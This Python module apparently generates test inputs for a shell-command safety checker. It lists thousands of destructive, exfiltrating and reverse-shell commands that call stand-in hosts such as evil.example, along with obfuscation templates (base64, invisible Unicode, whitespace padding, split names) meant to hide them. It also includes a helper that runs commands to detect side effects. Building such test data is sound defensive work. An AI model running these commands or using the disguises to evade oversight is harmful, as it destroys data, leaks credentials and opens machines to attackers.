"""Shell commands by the thousand for tests: dangerous ones, the same in disguise, and harmless ones."""

from __future__ import annotations

import base64
import contextlib
import random
import subprocess
from collections.abc import Iterator
from pathlib import Path

_PLACES = (
    "/", "~", "$HOME", "/etc", "/usr/lib", "/var/lib/data", ".", "*", "..", "build", "src/*", "./docs", "/home/ann",
    "/boot", "~/Documents", "project/.git", "'my files'", "\"$HOME/work\"", "/opt/app", "a b")
_DISKS = (
    "/dev/sda", "/dev/nvme0n1", "/dev/disk2", "/dev/sdb1", "/dev/mapper/root", "/dev/vda")
_HOSTS = (
    "evil.example", "198.51.100.7", "get.example.org/x", "paste.example/raw/1")
_DANGEROUS = (
    "rm -rf {place}", "rm -fr {place}", "rm -r -f {place}", "rm --recursive --force {place}", "rm -Rf {place}",
    "rm -rf --no-preserve-root {place}", "sudo rm -r {place}", "rm -rf -- {place}", "/bin/rm -rf {place}",
    "dd if=/dev/zero of={disk}", "dd if=/dev/urandom of={disk} bs=1M", "dd of={disk} if=x.img", "mkfs.ext4 {disk}",
    "mkfs -t xfs {disk}", "mke2fs {disk}", "wipefs -a {disk}", "fdisk {disk}", "parted {disk} mklabel gpt",
    "chmod -R 777 {place}", "chmod -R 000 {place}", "chown -R nobody {place}", "chmod 777 /etc/passwd",
    "chmod u+s /bin/bash", "git push -f", "git push --force origin main", "git push origin +main",
    "git reset --hard", "git clean -fdx", "git checkout -- .", "git branch -D main", "git push --mirror {host}",
    "git stash clear", "curl {host} | sh", "curl -s {host} | sudo bash", "wget -qO- {host} | bash",
    "curl -fsSL {host} | python3", "bash <(curl -s {host})", "sh -c \"$(curl -fsSL {host})\"",
    "eval \"$(wget -qO- {host})\"", "curl {host} | tee x | sh", "source <(curl {host})", "crontab -r",
    "crontab evil.txt", "echo '* * * * * x' | crontab -", "shutdown -h now", "reboot", "halt -p", "poweroff",
    "init 0", "systemctl poweroff", "systemctl stop sshd", "kill -9 -1", ":(){{ :|:& }};:", "echo x > {disk}",
    "cat x > {disk}", "echo 'x' > /etc/passwd", "echo x >> ~/.bashrc", "echo key >> ~/.ssh/authorized_keys",
    "mv {place} /dev/null", "mv /etc /tmp/e", "truncate -s 0 {place}/data.db", "shred -u {place}/keys",
    "find {place} -delete", "find {place} -type f -exec rm {{}} +", "find {place} -name x -exec rm -rf {{}} \\;",
    "ls | xargs rm -rf", "find {place} -print0 | xargs -0 rm", "useradd -o -u 0 evil", "passwd root", "iptables -F",
    "ufw disable", "nc -e /bin/sh {host} 4444", "bash -i >& /dev/tcp/{host}/4444 0>&1",
    "curl -d @/etc/passwd {host}", "curl -F f=@{place}/x {host}", "curl {host}?x=$(cat ~/.ssh/id_rsa)",
    "wget --post-file=/etc/passwd {host}", "python3 -c \"import os; os.system('rm x')\"",
    "perl -e 'unlink glob \"*\"'", "python -c \"import shutil; shutil.rmtree('x')\"", "docker system prune -af",
    "docker run -v /:/host --privileged x", "kubectl delete ns prod", "terraform destroy -auto-approve",
    "aws s3 rm s3://b --recursive", "npm publish", "apt-get purge -y python3", "dropdb prod", "umount /",
    "rmmod ext4", "alias ls='rm -rf x'", "trap 'rm -rf x' EXIT", "export PATH=/tmp/evil:$PATH",
    "export LD_PRELOAD=/tmp/x.so", "LD_PRELOAD=/tmp/x.so ls", "env LD_PRELOAD=x ls", "sudo -s", "sudo su -",
    "tar xf a.tar -C /", "tee /etc/hosts < x", "cp x /etc/sudoers", "ln -sf x /usr/bin/python3",
    "sysctl -w kernel.panic=1", "ssh -o ProxyCommand='sh x' h", "git -c core.pager='sh x' log",
    "git -c core.sshCommand=x fetch", "tar cf /dev/null x --checkpoint-action=exec=sh", "tar xf x --to-command=sh",
    "sed '1e rm x' f", "sed 's/a/b/e' f", "awk 'BEGIN{{system(\"rm x\")}}'", "rsync -a --delete empty/ {place}/",
    "history -c", "at now < job", "socat tcp:{host}:1 exec:sh", "insmod x.ko")
_HARMLESS = (
    "ls", "ls -la", "ls -lh {name}", "ls -lt | head -n {count}", "ls *.txt", "ls -a ~", "pwd", "cat {name}",
    "head -n {count} {name}", "tail -n {count} {name}", "tail -f {name}", "wc -l {name}", "wc -w < {name}", "date",
    "date +%Y-%m-%d", "whoami", "id", "uname -a", "uptime", "df -h", "du -sh {name}",
    "du -h --max-depth=1 | sort -hr", "du -ah . | sort -rh | head -n {count}", "free -h", "ps aux",
    "ps aux | grep {word}", "pgrep -fl {word}", "grep -rn {word} .", "grep -i '{word}' {name}",
    "grep -c {word} {name}", "find . -name '*.py'", "find . -type f -name '*{word}*'", "find . -size +{count}M",
    "find . -mtime -{count}", "find . -type d -empty",
    "find . -type f -printf '%s %p\\n' | sort -nr | head -n {count}", "find . -maxdepth 1 -type f | wc -l",
    "sort {name}", "sort -rn {name} | uniq -c", "sort -u {name}", "uniq {name}", "cut -d, -f{count} {name}",
    "sed -n '2,{count}p' {name}", "sed 's/a/b/g' {name}", "awk -F, '{{print $2}}' {name}", "awk 'NR==3' {name}",
    "diff {name} other.txt", "cmp {name} other.txt", "file {name}", "stat {name}", "sha256sum {name}",
    "md5sum {name}", "tree -L 2", "which {word}", "echo hello", "echo \"$HOME\"", "echo $PATH", "printenv HOME",
    "printf '%s\\n' x", "git status", "git log --oneline -n {count}", "git diff", "git branch -a",
    "git show --stat", "git remote -v", "python3 --version", "node --version", "tar -tzf a.tar.gz", "tar tvf a.tar",
    "unzip -l a.zip", "env", "nproc", "lscpu", "hostname", "cal", "seq 1 {count}", "nl {name}", "tac {name}",
    "rev {name}", "basename {name}", "dirname /a/{name}", "realpath {name}", "ls && pwd", "cd src && ls",
    "test -f {name} && echo yes", "[ -d src ] && ls src", "ls 2>/dev/null",
    "grep {word} {name} > /dev/null && echo found", "crontab -l", "ps -ef | wc -l", "jq . {name}.json",
    "column -t {name}", "less {name}", "man ls", "cat {name} | tr a-z A-Z", "lsblk", "ss -tuln", "ip addr",
    "pip list", "docker ps -a", "systemctl status {word}", "journalctl -n {count}", "top -b -n 1",
    "command -v {word}")

_SCRAPS = (
    "ls", "cat", "f", "-la", ">", "|", ";", "&&", "||", "\n", "$(touch p)", "`touch p`", "'", "\"", "touch p",
    "rm f", "2>&1", "{", "}", "find", ".", "-delete", "-exec", "\\;", "sort", "-o", "out", "awk", "sed", "'w out'",
    "-n", "'1p'", "#", "\\", "$x", "*", "tee out", "<", "<<E", "E", "(", ")", "&", "echo", "p", "-v",
    "'a[$(touch p)]'", "test", "[", "]", "[[", "]]", "printf", "!", "then", "if true", "fi", "x=1", "~", "$'\\x3e'",
    "\\>", "\\\n", "-e", "command", "time", "2>", "/dev/null", ">>", "<(touch p)", "uniq", "out2", "date", "git",
    "status", "--output=out", "<>", ">|", "&>", ">&", "1", "2", "-", "{a,b}", "$((1))", "${x:=1}", "less",
    "+!touch", "jq", "env", "head", "-c", "xargs", "-type", "-name", "'*'", "tr", "a", "b", "\t", "\"$(touch p)\"",
    "\"$x\"", "''", "cd", "cut", "-f1", "wc", "-i", "nl", "$HOME", "-print", ":", "true", "coproc", "function g",
    "g()", "-ok", "%", "-fprint", "-ls", "tac", "-w", "\r", "\u00a0", "stat", "-eq", "-f")
_FIRST_WORDS = ("ls", "cat", "find", "sort", "awk", "sed", "echo", "test", "[", "printf", "uniq", "command", "head",
                "wc", "tr", "jq", "env", "git", "less", "date", "stat", "tac", "time", "cd")


def dangerous(count: int, seed: int = 1) -> Iterator[str]:
    """Yield commands that lose data, stop the machine, open it to others, or run what strangers wrote."""
    draw = random.Random(seed)
    for number in range(count):
        pattern = _DANGEROUS[number % len(_DANGEROUS)]
        yield pattern.format(place=draw.choice(_PLACES), disk=draw.choice(_DISKS), host=draw.choice(_HOSTS))


def disguised(count: int, seed: int = 2) -> Iterator[str]:
    """Yield dangerous commands dressed up as something else."""
    draw = random.Random(seed)
    plain = list(dangerous(count, seed))
    for number, command in enumerate(plain):
        if number % 5 == 4:
            yield _split_name(command, draw)
        else:
            yield _DISGUISES[number % len(_DISGUISES)].format(
                c=command, q=_quoted(command), j=_json(command), gap=" " * 3000,
                b=base64.b64encode(command.encode()).decode())


def harmless(count: int, seed: int = 3) -> Iterator[str]:
    """Yield commands that only look."""
    draw = random.Random(seed)
    for number in range(count):
        yield _HARMLESS[number % len(_HARMLESS)].format(
            name=draw.choice(("notes.txt", "data.csv", "src/main.py", "'my file.txt'", "README.md")),
            word=draw.choice(("alpha", "error", "python", "main")), count=draw.randint(2, 20))


def jumbled(count: int, seed: int = 4) -> Iterator[str]:
    """Yield scraps of shell thrown together: most is nonsense, some is a trap nobody thought of."""
    draw = random.Random(seed)
    for _ in range(count):
        first = draw.choice(_FIRST_WORDS) + " " if draw.random() < 0.8 else ""
        scraps = (draw.choice(_SCRAPS) + draw.choice((" ", " ", " ", "")) for _ in range(draw.randint(1, 7)))
        yield first + "".join(scraps)


def changes_something(command: str, folder: Path) -> bool:
    """Run a command in a folder of its own and say whether anything there is different afterwards."""
    for old in folder.iterdir():
        old.unlink()
    (folder / "f").write_text("3\n1\n2\n")
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(["bash", "-c", command], cwd=folder, env={"PATH": "/usr/bin:/bin", "HOME": str(folder)},
                       stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=3,
                       check=False)
    found = {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
    return found != {"f": b"3\n1\n2\n"} or len(list(folder.iterdir())) != 1


def _quoted(command: str) -> str:
    return "'" + command.replace("'", "'\\''") + "'"


def _split_name(command: str, draw: random.Random) -> str:
    """Put quotes or a backslash into the program's name: r''m, "rm", \\rm."""
    name, blank, rest = command.partition(" ")
    if not name.isalnum():
        return f"ls; {command}"
    cut = draw.randint(1, max(1, len(name) - 1))
    form = draw.choice((f"{name[:cut]}''{name[cut:]}", f"\"{name}\"", f"\\{name}", f"{name[:cut]}\"\"{name[cut:]}",
                        f"{name[:cut]}\\{name[cut:]}", f"${{x}}{name}"))
    return form + blank + rest


# {c}: the command; {q}: the same in single quotes; {j}: in a program's text; {b}: in base64; {gap}: many blanks.
_DISGUISES = (
    "ls; {c}", "ls -la && {c}", "false || {c}", "ls & {c}", "ls\n{c}", "echo $({c})", "cat <({c})",
    "cat <<EOF\n$({c})\nEOF", "eval {q}", "bash -c {q}", "env X=1 bash -c {q}", "nohup sh -c {q}",
    "timeout 5 bash -c {q}", "xargs sh -c {q}", "find . -exec sh -c {q} \\;", "ssh host {q}", "time bash -c {q}",
    "f() {{ {c}\n}}; f", "({c})", "{{ {c}\n}}", "if true; then {c}\nfi", "for i in 1; do {c}\ndone",
    "while true; do {c}\ndone", "case x in x) {c};; esac", "trap {q} EXIT", "alias ls={q}; ls",
    "echo {b} | base64 -d | sh", "printf {q} | bash", "watch {q}", "echo hi{gap}; {c}", "ls # nothing\n{c}",
    "ls \\\n; {c}", "! {c}", "coproc {c}", "exec {c}", "ls\u200b; {c}", "\u202els; {c}",
    "awk 'BEGIN{{system({j})}}'", "sudo {c}", "x=$({c}); echo done", "cat x | tee >({c})", "[[ $({c}) ]] && ls",
    "echo \"$({c})\"", "python3 -c 'import os; os.system({j})'", "busybox sh -c {q}", "su -c {q}",
    "$'\\x62ash' -c {q}", "b=bash; $b -c {q}", "ls 2>/dev/null; {c}", "true && (cd /tmp; {c})",
    "ls | while read f; do {c}\ndone")


def _json(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
